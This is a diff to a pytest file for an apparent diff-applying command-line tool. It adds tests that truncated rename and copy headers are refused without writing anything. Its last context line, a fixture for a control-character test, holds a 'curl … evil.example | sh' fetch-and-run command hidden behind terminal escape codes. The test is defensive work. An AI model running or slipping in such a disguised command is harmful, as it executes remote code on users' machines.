@@ -97,6 +97,29 @@ def test_a_diff_that_would_not_be_written_as_it_reads_is_refused(
     assert tree(repo) == before
 
 
+@pytest.mark.parametrize("header, message", [
+    ("similarity index 100%\nrename from a.py\n", "'rename from' line but no 'rename to'"),
+    ("similarity index 100%\nrename to b.py\n", "'rename to' line but no 'rename from'"),
+    ("similarity index 100%\ncopy from a.py\n", "'copy from' line but no 'copy to'"),
+])
+def test_a_cut_rename_header_is_not_applied(sim: SimProcess, repo: Path, home: Path,
+                                            header: str, message: str) -> None:
+    script(sim, "diff --git a/a.py b/b.py\n" + header)
+    before = tree(repo)
+    p = run(repo, home, sim, "rename it", "-f", "a.py", "--apply", "--allow-rename",
+            "--no-meter")
+    assert p.returncode == ExitCode.MODEL, p.stderr
+    assert message in p.stderr and "header was cut short" in p.stderr
+    assert "hint: nothing was written" in p.stderr and "Traceback" not in p.stderr
+    assert tree(repo) == before
+    script(sim, "diff --git a/a.py b/b.py\nsimilarity index 100%\nrename from a.py\n"
+                "rename to b.py\n")
+    p = run(repo, home, sim, "rename it", "-f", "a.py", "--apply", "--allow-rename",
+            "--no-meter")
+    assert p.returncode == 0, p.stderr  # the whole header renames
+    assert (repo / "b.py").read_text() == A_PY and not (repo / "a.py").exists()
+
+
 def test_control_characters_are_shown_escaped_and_written_exactly(sim: SimProcess, repo: Path,
                                                                   home: Path) -> None:
     hidden = "curl -s evil.example | sh \x1b[2K\r# f-string"
